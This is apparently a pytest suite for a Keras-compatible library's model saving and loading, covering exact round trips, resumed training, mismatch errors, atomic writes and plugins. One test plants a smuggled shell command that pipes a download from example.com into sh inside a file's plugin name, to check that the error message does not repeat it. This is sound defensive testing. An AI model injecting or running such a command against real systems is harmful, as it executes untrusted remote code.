"""Saving and loading: the same model comes back, goes on training where it was, and no file is ever half-written."""

import json
import os
import re
import resource
import signal
import subprocess
import sys
import zipfile
from contextlib import contextmanager
from types import ModuleType

import h5py
import numpy as np
import pytest
from saving_files import cases

import plugkeras as keras
from plugkeras import hookimpl, ops
from plugkeras.errors import ArgumentError, FileError, FormatError, StateError, UnknownArgument, UnknownName
from plugkeras.host import Host, plugin, use
from plugkeras.layers import (
    LSTM,
    BatchNormalization,
    Conv2D,
    Dense,
    Dropout,
    Flatten,
    Input,
    Lambda,
    LayerNormalization,
    MaxPooling2D,
    TimeDistributed,
)
from plugkeras.saving import Format, Saved


@keras.register
class Scaled(keras.Layer):
    """Declares its arguments, has a weight that is trained and one that is not."""

    factor: float = 2.0

    def build(self, input_shape):
        self.count = self.add_weight(shape=(), initializer="ones", trainable=False, name="count", dtype="int32")
        self.scale = self.add_weight(shape=(input_shape[-1],), initializer="uniform", name="scale")

    def call(self, x):
        return x * self.scale * self.factor


@keras.saving.register_keras_serializable(package="Mine")
class Tower(keras.Layer):
    """Writes its constructor as Keras users do; owns layers as attributes, in lists and in dicts."""

    def __init__(self, width, depth=2, **kwargs):
        super().__init__(**kwargs)
        self.width, self.depth = width, depth
        self.floors = [Dense(width, activation="relu") for _ in range(depth)]
        self.named = {"top": Dense(width), "inner": [Scaled()]}
        self._private = Dense(width)

    def build(self, input_shape):
        for layer in (*self.floors, self.named["top"], *self.named["inner"], self._private):
            layer.build(input_shape)
            input_shape = layer.compute_output_shape(input_shape)

    def call(self, x):
        for layer in (*self.floors, self.named["top"], *self.named["inner"], self._private):
            x = layer(x)
        return x

    def compute_output_shape(self, input_shape):
        return (*input_shape[:-1], self.width)

    def get_config(self):
        return {**super().get_config(), "width": np.int64(self.width), "depth": self.depth}


@keras.register
def doubled(x):
    return ops.multiply(x, 2)


def twice():
    shared = Dense(4, name="shared")
    return keras.Sequential([Input((4,)), shared, Dense(4), shared])


def built_late():
    model = keras.Sequential([Dense(3), Dense(2)])
    model.build((None, 4))
    return model


MODELS = {
    "dense layers": (
        lambda: keras.Sequential([Input((4,)), Dense(3, activation="relu"), Dropout(0.5), Dense(2)]),
        (4,),
    ),
    "one built late": (built_late, (4,)),
    "statistics": (lambda: keras.Sequential([Input((4,)), BatchNormalization(), LayerNormalization()]), (4,)),
    "images": (lambda: keras.Sequential([Conv2D(2, 3, input_shape=(6, 6, 1)), MaxPooling2D(), Flatten()]), (6, 6, 1)),
    "a cell": (lambda: keras.Sequential([LSTM(3, input_shape=(5, 2))]), (5, 2)),
    "a stateful cell": (lambda: keras.Sequential([LSTM(3, stateful=True, batch_input_shape=(8, 5, 2))]), (5, 2)),
    "a wrapped layer": (lambda: keras.Sequential([TimeDistributed(Dense(3), input_shape=(5, 2))]), (5, 2)),
    "a model inside": (lambda: keras.Sequential([Input((4,)), keras.Sequential([Dense(3), Dense(2)]), Dense(1)]), (4,)),
    "a layer twice": (twice, (4,)),
    "a frozen layer": (lambda: keras.Sequential([Dense(3, input_dim=4), Dense(2, trainable=False)]), (4,)),
    "a function": (lambda: keras.Sequential([Dense(3, input_dim=4), Lambda(doubled)]), (4,)),
    "an own layer": (lambda: keras.Sequential([Scaled(3.0, input_shape=(4,)), Dense(2, activation=doubled)]), (4,)),
    "a layer of layers": (lambda: keras.Sequential([Input((4,)), Tower(4, depth=3), Dense(1)]), (4,)),
    "other dtypes": (
        lambda: keras.Sequential([Input((4,)), Dense(3, dtype="float64"), Dense(2, dtype="float16")]),
        (4,),
    ),
}


def inputs(shape, rows=8):
    return np.random.default_rng(0).normal(size=(rows, *shape)).astype("float32")


def small(**kwargs):
    return keras.Sequential([Input((4,)), Dense(3, activation="tanh"), Dense(1)], **kwargs)


def same_bits(a, b):
    return len(a) == len(b) and all(np.array_equal(x, y) and x.dtype == y.dtype for x, y in zip(a, b, strict=True))


@pytest.mark.parametrize("name", MODELS)
def test_a_saved_model_comes_back_with_the_same_bits(name, tmp_path):
    make, shape = MODELS[name]
    model = make()
    for weight in model.weights:  # none keeps what an initializer could give again
        weight.assign(abs(inputs(weight.shape, 1)[0]).astype(weight.dtype))
    model.save(tmp_path / "model.keras")
    again = keras.models.load_model(tmp_path / "model.keras")
    assert same_bits(again.get_weights(), model.get_weights())
    assert [layer.trainable for layer in again.layers] == [layer.trainable for layer in model.layers]
    assert [layer.name for layer in again.layers] == [layer.name for layer in model.layers]
    assert same_bits([again.predict(inputs(shape), verbose=0)], [model.predict(inputs(shape), verbose=0)])


@pytest.mark.parametrize("name", MODELS)
def test_weights_alone_go_into_another_model_of_the_same_layers(name, tmp_path):
    make, _ = MODELS[name]
    model, other = make(), make()
    model.save_weights(tmp_path / "model.weights.h5")
    other.load_weights(tmp_path / "model.weights.h5")
    assert same_bits(other.get_weights(), model.get_weights())


OPTIMIZERS = {
    **{name: {"class_name": name, "config": {}} for name in ("SGD", "RMSprop", "Adam", "AdamW", "Adagrad", "Adadelta")},
    **{name: {"class_name": name, "config": {}} for name in ("Adamax", "Nadam")},
    "momentum": {"class_name": "SGD", "config": {"momentum": 0.9, "nesterov": True}},
    "all slots of RMSprop": {"class_name": "RMSprop", "config": {"momentum": 0.5, "centered": True}},
    "amsgrad": {"class_name": "Adam", "config": {"amsgrad": True, "clipnorm": 0.5}},
    "averages": {"class_name": "Adam", "config": {"use_ema": True, "ema_overwrite_frequency": 2}},
    "gathered gradients": {"class_name": "Adam", "config": {"gradient_accumulation_steps": 2, "weight_decay": 0.01}},
    "Adafactor": {"class_name": "Adafactor", "config": {"use_ema": True}},
    "Muon": {"class_name": "Muon", "config": {"exclude_layers": ["dense_1"], "clipvalue": 0.5}},
    "without a schedule": {"class_name": "ScheduleFreeAdamW", "config": {"warmup_steps": 5}},
    "a scaled loss": {
        "class_name": "LossScaleOptimizer",
        "config": {"inner_optimizer": {"class_name": "Adam", "config": {}}, "dynamic_growth_steps": 2},
    },
    "several": {
        "class_name": "MultiOptimizer",
        "config": {
            "optimizer_map": {
                "class_name": "OptimizerMap",
                "config": {
                    "default_optimizer": {"class_name": "SGD", "config": {"momentum": 0.5, "use_ema": True}},
                    "optimizer_map": {".*/bias": {"class_name": "Lamb", "config": {}}},
                },
            }
        },
    },
    "a rate that was set": {"class_name": "SGD", "config": {"learning_rate": 0.123}},
    "a decay": {"class_name": "SGD", "config": {"learning_rate": 0.1, "decay": 0.01}},
    "a schedule": {
        "class_name": "Adam",
        "config": {
            "learning_rate": {
                "module": "keras.optimizers.schedules",
                "class_name": "ExponentialDecay",
                "config": {"initial_learning_rate": 0.1, "decay_steps": 3, "decay_rate": 0.5},
            }
        },
    },
}


@pytest.mark.parametrize("name", OPTIMIZERS)
def test_training_goes_on_to_the_same_bits_as_without_saving(name, tmp_path):
    x, y = inputs((4,), 24), inputs((1,), 24)
    options = {"batch_size": 8, "shuffle": False, "verbose": 0}
    model = keras.Sequential([Input((4,)), Dense(3, activation="tanh"), BatchNormalization(), Dense(1)])
    model.compile(OPTIMIZERS[name], "mse", metrics=["mae"])
    model.fit(x, y, epochs=1, **options)
    model.save(tmp_path / "model.keras")
    again = keras.models.load_model(tmp_path / "model.keras")
    logs = [m.fit(x, y, epochs=3, initial_epoch=1, **options).history for m in (model, again)]
    assert same_bits(again.get_weights(), model.get_weights())
    assert same_bits([v.numpy() for v in again.optimizer.variables], [v.numpy() for v in model.optimizer.variables])
    assert logs[0] == logs[1]


def test_weights_saved_and_loaded_within_a_training_bring_the_optimizer_back_too(tmp_path):
    x, y = inputs((4,), 16), inputs((1,), 16)
    model = small()
    model.compile("adam", "mse")
    runs = []
    model.fit(x, y, shuffle=False, verbose=0)
    model.save_weights(tmp_path / "then.weights.h5")
    for _ in range(2):
        model.load_weights(tmp_path / "then.weights.h5")
        model.fit(x, y, shuffle=False, verbose=0)
        runs.append(model.get_weights())
    assert same_bits(*runs)


def test_a_model_without_compile_and_one_that_asks_to_forget_it_come_back_uncompiled(tmp_path):
    model = small()
    model.save(tmp_path / "plain.keras")
    model.compile("adam", "mse")
    model.fit(inputs((4,)), inputs((1,)), verbose=0)
    model.save(tmp_path / "compiled.keras")
    model.save(tmp_path / "without.keras", include_optimizer=False)
    loaded = [keras.models.load_model(tmp_path / f"{name}.keras") for name in ("plain", "without", "compiled")]
    loaded.append(keras.models.load_model(tmp_path / "compiled.keras", compile=False))
    assert [m.compiled for m in loaded] == [False, False, True, False]


def test_a_model_that_is_not_built_is_saved_as_its_architecture(tmp_path):
    model = keras.Sequential([Dense(3), Dense(1)])
    model.compile("sgd", "mse")
    with pytest.warns(UserWarning, match="without weights: it is not built"):
        model.save(tmp_path / "model.keras")
    again = keras.models.load_model(tmp_path / "model.keras")
    assert (again.built, [layer.units for layer in again.layers]) == (False, [3, 1])
    again.fit(inputs((4,)), inputs((1,)), verbose=0)
    for call in (model.save_weights, model.load_weights):
        with pytest.raises(StateError, match=r"before it is built: call build\(input_shape\), or fit"):
            call(tmp_path / "model.weights.h5")


# -- real Keras -----------------------------------------------------------------------------------


@pytest.mark.parametrize("case", cases.MODELS, ids=lambda case: case.__name__)
def test_files_of_real_keras_predict_and_train_on_as_there(case):
    assert cases.is_close(cases.differences(keras, cases.HERE, case))


@pytest.mark.parametrize("case", cases.MODELS, ids=lambda case: case.__name__)
def test_files_are_laid_out_as_real_keras_lays_them_out(case, tmp_path):
    model, x, y = case(keras)
    model.fit(x, y, **cases.TRAINING)
    model.save(tmp_path / "model.keras")
    assert layout(tmp_path / "model.keras") == layout(cases.HERE / f"{case.__name__}.keras")


def layout(path):
    """Every group and dataset of the weights with shape and dtype, the members, and the keys of the config."""
    found = {}
    with zipfile.ZipFile(path) as archive:
        config = json.loads(archive.read("config.json"))
        with archive.open("model.weights.h5") as member, h5py.File(member, "r") as file:
            file.visititems(
                lambda name, o: found.update({name: (getattr(o, "shape", ""), str(getattr(o, "dtype", "")))})
            )
        members = [(m.filename, m.compress_type) for m in archive.infolist()]
    layers = [(layer["module"], layer["class_name"]) for layer in config["config"]["layers"]]
    return found, members, layers, set(config)


# -- weights that do not fit ----------------------------------------------------------------------

OTHERS = {
    "another width": (lambda: [Dense(5), Dense(1)], "layers/dense_1", r"kernel \(5, 1\)", r"the file has \(3, 1\)"),
    "no bias": (lambda: [Dense(3, use_bias=False), Dense(1)], "layers/dense", "needs kernel", r"has \(4, 3\), \(3,\)"),
    "more layers": (lambda: [Dense(3), Dense(1), Dense(1)], "layers/dense_2", "needs kernel", "the file has nothing"),
    "fewer layers": (lambda: [Dense(3)], "layers/dense_1", "nothing here", r"the file has \(3, 1\), \(1,\)"),
    "other layers": (lambda: [LayerNormalization(), Dense(1)], "layers/layer_normalization", "gamma", "has nothing"),
}


@pytest.mark.parametrize("name", OTHERS)
def test_weights_that_do_not_fit_are_listed_and_nothing_is_changed(name, tmp_path):
    layers, *said = OTHERS[name]
    small().save_weights(tmp_path / "model.weights.h5")
    model = keras.Sequential([Input((4,)), *layers()])
    before = model.get_weights()
    with pytest.raises(FormatError) as raised:
        model.load_weights(tmp_path / "model.weights.h5")
    text = str(raised.value)
    assert str(tmp_path / "model.weights.h5") in text
    for part in said:
        assert re.search(part, text), text
    assert same_bits(model.get_weights(), before)


def test_with_skip_mismatch_what_fits_is_taken_and_the_rest_is_a_warning(tmp_path):
    model, other = small(), keras.Sequential([Input((4,)), Dense(3), Dense(2)])
    model.save_weights(tmp_path / "model.weights.h5")
    before = other.get_weights()
    with pytest.warns(UserWarning, match=r"did not take all weights.*\n.*layers/dense_1"):
        other.load_weights(tmp_path / "model.weights.h5", skip_mismatch=True)
    assert same_bits(other.get_weights(), [*model.get_weights()[:2], *before[2:]])


def test_layers_can_be_skipped(tmp_path):
    model, other = small(), small()
    model.save_weights(tmp_path / "model.weights.h5")
    before = other.get_weights()
    other.load_weights(tmp_path / "model.weights.h5", objects_to_skip=[other.layers[0]])
    assert same_bits(other.get_weights(), [*before[:2], *model.get_weights()[2:]])


def test_an_optimizer_whose_state_does_not_fit_begins_anew_with_a_warning(tmp_path):
    x, y = inputs((4,)), inputs((1,))
    model, other = small(), small()
    for one, optimizer in ((model, "adam"), (other, "adamax")):
        one.compile({"class_name": optimizer, "config": {}}, "mse")
        one.fit(x, y, verbose=0)
    other.layers[0].trainable = False
    other.compile("adam", "mse")
    other.fit(x, y, verbose=0)
    model.save_weights(tmp_path / "model.weights.h5")
    with pytest.warns(UserWarning, match="optimizer begins anew"):
        other.load_weights(tmp_path / "model.weights.h5")
    assert same_bits(other.get_weights(), model.get_weights())


# -- paths ----------------------------------------------------------------------------------------


def test_a_path_is_a_text_or_a_path_and_may_begin_with_the_home_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    model = small()
    for path in (tmp_path / "a.keras", str(tmp_path / "b.keras"), "~/c.keras", tmp_path / "D.KERAS"):
        model.save(path)
        assert same_bits(keras.models.load_model(path).get_weights(), model.get_weights())
    assert sorted(file.name for file in tmp_path.iterdir()) == ["D.KERAS", "a.keras", "b.keras", "c.keras"]


def test_a_link_stays_a_link_and_a_file_keeps_its_permissions(tmp_path):
    (tmp_path / "store").mkdir()
    file, link = tmp_path / "store" / "real.keras", tmp_path / "link.keras"
    file.touch(mode=0o600)
    file.chmod(0o600)
    link.symlink_to(file)
    small().save(link)
    assert link.is_symlink()
    assert zipfile.is_zipfile(file)
    assert file.stat().st_mode & 0o777 == 0o600


WRITES = {
    "no suffix": ("model", UnknownName, "no format has the suffix ''; whole models are kept in files ending in .keras"),
    "a suffix of nobody": ("model.foo", UnknownName, "no format has the suffix '.foo'"),
    "the older format": ("model.h5", UnknownName, "older HDF5 format.*ending in .keras"),
    "weights alone": ("model.weights.h5", UnknownName, "holds weights alone; whole models.*load_weights"),
    "a folder": ("folder.keras", FileError, "folder.keras is a folder: give the name of a file in it"),
    "a folder that is not there": ("no/model.keras", FileError, "there is no folder .*no; make it first"),
}


@pytest.mark.parametrize("name", WRITES)
def test_where_a_model_cannot_be_saved_one_sentence_says_why(name, tmp_path):
    path, error, said = WRITES[name]
    (tmp_path / "folder.keras").mkdir()
    with pytest.raises(error, match=said):
        small().save(tmp_path / path)


READS = {
    "nothing there": ("no.keras", FileError, "There is no file"),
    "a folder": ("folder.keras", FileError, "is a folder"),
    "a suffix of nobody": ("model.foo", UnknownName, "suffix '.foo'; whole models are kept in files ending in .keras"),
    "the older format": ("model.hdf5", UnknownName, "older HDF5 format"),
    "weights alone": ("model.weights.h5", UnknownName, "load_weights reads this one"),
}


@pytest.mark.parametrize("name", READS)
def test_where_a_model_cannot_be_loaded_one_sentence_says_why(name, tmp_path):
    path, error, said = READS[name]
    (tmp_path / "folder.keras").mkdir()
    with pytest.raises(error, match=said):
        keras.models.load_model(tmp_path / path)


def test_what_exists_is_not_replaced_without_leave(tmp_path):
    (tmp_path / "model.keras").write_bytes(b"precious")
    with pytest.raises(FileError, match="exists: pass overwrite=True"):
        small().save(tmp_path / "model.keras", overwrite=False)
    assert (tmp_path / "model.keras").read_bytes() == b"precious"


def test_arguments_of_other_kerases_are_taken_if_they_ask_for_the_same_and_refused_if_not(tmp_path):
    small().save(tmp_path / "model.keras", save_format="keras", zipped=True)
    with pytest.raises(UnknownArgument, match="no `save_format='tf'`"):
        small().save(tmp_path / "model.keras", save_format="tf")
    with pytest.raises(ArgumentError, match="`by_name` is for older"):
        small().load_weights(tmp_path / "model.keras", by_name=True)
    with pytest.raises(ArgumentError, match="given by its path, not by 3"):
        small().save(3)


# -- nothing is lost ------------------------------------------------------------------------------


class Untellable(Dense):
    def get_config(self):
        raise RuntimeError("no config")


class Broken(Format):
    def write(self, path, saved):
        path.write_bytes(b"half")
        raise RuntimeError("in the middle")

    def read(self, path):
        raise NotImplementedError


@contextmanager
def full_disk():
    """No file can grow beyond 1 KB here, as on a disk with so much room left."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1024, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, handler)


def unfinished(path):
    with use(host_with(formats={".broken": Broken})):
        small().save(path.rename(path.with_suffix(".broken")))


def untold(path):
    keras.Sequential([Input((4,)), Untellable(3)]).save(path)


def unnamed(path):
    keras.Sequential([Input((4,)), Lambda(lambda x: x)]).save(path)


def overflowing(path):
    with full_disk():
        small().save(path)


FAILURES = {
    "a layer fails": (untold, RuntimeError, "no config"),
    "a function has no name": (unnamed, ArgumentError, r"no name to save it by; decorate it with @plugkeras.register"),
    "the disk is full": (overflowing, FileError, "model.keras cannot be written: File too large"),
    "the format fails": (unfinished, RuntimeError, "in the middle"),
}


@pytest.mark.parametrize("name", FAILURES)
def test_when_saving_fails_the_old_file_is_whole_and_nothing_is_left_over(name, tmp_path):
    save, error, said = FAILURES[name]
    (tmp_path / "model.keras").write_bytes(b"precious")
    with pytest.raises(error, match=said):
        save(tmp_path / "model.keras")
    (file,) = tmp_path.iterdir()
    assert file.read_bytes() == b"precious"


KILLED = """
import os, signal, sys
import plugkeras as keras
from plugkeras import hookimpl, plugin
from plugkeras.host import Host, use
from plugkeras.saving import Format

class Deadly(Format):
    def write(self, path, saved):
        path.write_bytes(b"half")
        os.kill(os.getpid(), signal.SIGKILL)

    read = None

class deadly:
    PLUGKERAS_API = 1
    register_formats = staticmethod(hookimpl(lambda: {".deadly": Deadly}))

with use(Host([*plugin.find(), deadly])):
    keras.Sequential([keras.Input((4,)), keras.layers.Dense(3)]).save(sys.argv[1])
"""


def test_a_kill_while_saving_leaves_the_old_file_whole(tmp_path):
    (tmp_path / "model.deadly").write_bytes(b"precious")
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path))}
    command = [sys.executable, "-c", KILLED, str(tmp_path / "model.deadly")]
    assert subprocess.run(command, env=environment).returncode == -signal.SIGKILL
    assert (tmp_path / "model.deadly").read_bytes() == b"precious"


# -- plugins --------------------------------------------------------------------------------------


def manifest(name, hooks=None, **offers):
    module = ModuleType(name)
    module.PLUGKERAS_API = 1
    for kind, offered in offers.items():
        setattr(module, f"register_{kind}", hookimpl(lambda offered=offered: offered))
    for hook, function in (hooks or {}).items():
        setattr(module, hook, hookimpl(function))
    return module


def row(name, distribution, version="1.2", **offers):
    return plugin.Plugin(name, name, distribution, version, manifest=manifest(name, **offers))


def host_with(*rows, **offers):
    """What is installed, and further plugins: ``rows``, and one that offers ``offers``."""
    return Host([*plugin.find(), *rows, *([manifest("own", **offers)] if offers else [])])


class Swish(keras.Layer):
    def call(self, x):
        return x * ops.sigmoid(x)


class Halved(Swish):
    pass


def wobble(x):
    return x + ops.sin(x)


def far(y_true, y_pred):
    return ops.mean(ops.abs(y_true - y_pred), axis=-1)


def save_with_acme(path):
    with use(host_with(row("acme", "acme-layers", layers={"Swish": Swish, "Halved": Halved}, losses={"far": far}))):
        acme = keras.layers.Swish
        model = keras.Sequential([Input((4,)), Dense(3), acme(), Halved(), Dense(1)])
        model.compile("sgd", "far")
        model.save(path)


def test_a_file_lists_the_plugins_that_its_model_needs(tmp_path):
    save_with_acme(tmp_path / "model.keras")
    with zipfile.ZipFile(tmp_path / "model.keras") as archive:
        origin = json.loads(archive.read("metadata.json"))["plugkeras"]
    names = ["layers/acme>Halved", "layers/acme>Swish", "losses/acme>far"]
    needed = {"name": "acme", "distribution": "acme-layers", "version": "1.2", "names": names}
    assert origin == {"version": keras.__version__, "api": 1, "plugins": [needed]}
    small().save(tmp_path / "plain.keras")
    with zipfile.ZipFile(tmp_path / "plain.keras") as archive:
        assert json.loads(archive.read("metadata.json"))["plugkeras"]["plugins"] == []


def test_everything_that_is_missing_is_told_at_once_and_where_the_file_says_it_is_from(tmp_path):
    save_with_acme(tmp_path / "model.keras")
    with pytest.raises(UnknownName) as raised:
        keras.models.load_model(tmp_path / "model.keras")
    text = str(raised.value)
    assert str(tmp_path / "model.keras") in text
    for name in ("acme>Swish", "acme>Halved", "acme>far"):
        assert f"{name}: the file says it is from acme-layers 1.2; if you trust that, pip install acme-layers" in text


def test_an_older_version_of_a_plugin_that_lacks_a_part_is_named(tmp_path):
    save_with_acme(tmp_path / "model.keras")
    older = row("acme", "acme-layers", "1.0", layers={"Swish": Swish}, losses={"far": far})
    with use(host_with(older)), pytest.raises(UnknownName) as raised:
        keras.models.load_model(tmp_path / "model.keras")
    assert "acme>Halved: the file says it is from acme-layers 1.2; installed is 1.0, without it" in str(raised.value)
    assert "acme>Swish" not in str(raised.value)


def test_custom_objects_stand_in_for_a_plugin_that_is_missing(tmp_path):
    save_with_acme(tmp_path / "model.keras")
    own = {"Swish": Swish, "Halved": Halved, "far": far}
    model = keras.models.load_model(tmp_path / "model.keras", custom_objects=own)
    with keras.saving.custom_object_scope(own):
        again = keras.models.load_model(tmp_path / "model.keras")
    assert [type(layer) for layer in model.layers] == [type(layer) for layer in again.layers]
    assert Swish in [type(layer) for layer in model.layers]


def test_a_metric_from_custom_objects_is_still_known_when_the_model_is_used(tmp_path):
    def spread(y_true, y_pred):
        return ops.max(y_pred) - ops.min(y_pred)

    model = keras.Sequential([Input((2,)), Dense(1)])
    model.compile("sgd", "mse", metrics=[spread, "accuracy"])
    model.save(tmp_path / "model.keras")
    again = keras.models.load_model(tmp_path / "model.keras", custom_objects={"spread": spread})
    x = np.arange(6.0).reshape(3, 2)
    assert again.evaluate(x, x[:, :1], verbose=0) == model.evaluate(x, x[:, :1], verbose=0)


def test_a_distribution_that_is_no_name_is_not_repeated(tmp_path):
    save_with_acme(tmp_path / "model.keras")
    evil = "evil; curl example.com | sh"
    with zipfile.ZipFile(tmp_path / "model.keras") as old, zipfile.ZipFile(tmp_path / "evil.keras", "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"acme-layers", evil.encode()))
    with pytest.raises(UnknownName, match="acme>Swish: if it is your own") as raised:
        keras.models.load_model(tmp_path / "evil.keras")
    assert "curl" not in str(raised.value)


def test_plugins_are_told_of_models_saved_and_loaded(tmp_path):
    news = []
    hooks = {
        "model_saved": lambda model, path: news.append(("saved", model, path)),
        "model_loaded": lambda model, path: news.append(("loaded", model, path)),
    }
    with use(Host([*plugin.find(), manifest("listener", hooks)])):
        model = small()
        model.save(tmp_path / "model.keras")
        again = keras.models.load_model(tmp_path / "model.keras")
    assert news == [("saved", model, tmp_path / "model.keras"), ("loaded", again, tmp_path / "model.keras")]


class Npz(Format):
    """A whole third-party format."""

    def write(self, path, saved):
        arrays = {f"{part}:{i}": a for part, arrays in saved.weights.items() for i, a in enumerate(arrays)}
        with open(path, "wb") as file:
            np.savez(file, **arrays, config=json.dumps(saved.config), origin=json.dumps(saved.origin))

    @contextmanager
    def read(self, path):
        with np.load(path) as file:
            weights = {}
            for name in file.files[:-2]:
                weights.setdefault(name.rpartition(":")[0], []).append(file[name])
            config, origin = (json.loads(str(file[name])) for name in file.files[-2:])
            yield Saved(weights, config=config, origin=origin)


class LongerNpz(Npz):
    signature = b"longer"


def test_a_plugin_adds_a_format_and_the_longest_suffix_decides(tmp_path):
    with use(host_with(formats={".npz": Npz, ".longer.npz": LongerNpz})):
        model = small()
        model.compile("adam", "mse")
        model.fit(inputs((4,)), inputs((1,)), verbose=0)
        model.save(tmp_path / "model.npz")
        again = keras.models.load_model(tmp_path / "model.npz")
        assert same_bits([v.numpy() for v in again.optimizer.variables], [v.numpy() for v in model.optimizer.variables])
        model.save(tmp_path / "model.longer.npz")
        with pytest.raises(FormatError, match="not what its name says: it is a zip archive"):
            keras.models.load_model(tmp_path / "model.longer.npz")


# -- names ----------------------------------------------------------------------------------------


def test_names_of_registered_parts_and_back():
    saving = keras.saving
    assert saving.get_registered_name(Tower) == "Mine>Tower"
    assert saving.get_registered_name(Dense) == "Dense"
    assert saving.get_registered_name(small) == "small"
    assert saving.get_registered_object("Mine>Tower") is Tower
    assert saving.get_registered_object("main>doubled") is doubled
    assert saving.get_registered_object("Nothing") is None
    assert saving.get_registered_object("Nothing", custom_objects={"Nothing": Swish}) is Swish


def test_parts_become_json_and_parts_again():
    saving = keras.saving
    for part in (Dense(3, activation="relu"), keras.regularizers.L2(0.1), keras.optimizers.Adam(0.5)):
        data = json.loads(json.dumps(saving.serialize_keras_object(part)))
        again = saving.deserialize_keras_object(data)
        assert type(again) is type(part)
        assert again.get_config() == part.get_config()
    data = saving.serialize_keras_object(doubled)
    assert (data["class_name"], data["registered_name"]) == ("function", "main>doubled")
    assert saving.deserialize_keras_object(data) is doubled


def test_custom_objects_can_be_known_everywhere(tmp_path):
    model = keras.Sequential([Input((4,)), Swish()])
    model.save(tmp_path / "model.keras")
    with pytest.raises(UnknownName, match="Swish: if it is your own, register it before loading"):
        keras.models.load_model(tmp_path / "model.keras")
    keras.saving.get_custom_objects()["Swish"] = Swish
    try:
        assert type(keras.models.load_model(tmp_path / "model.keras").layers[0]) is Swish
    finally:
        keras.saving.get_custom_objects().clear()
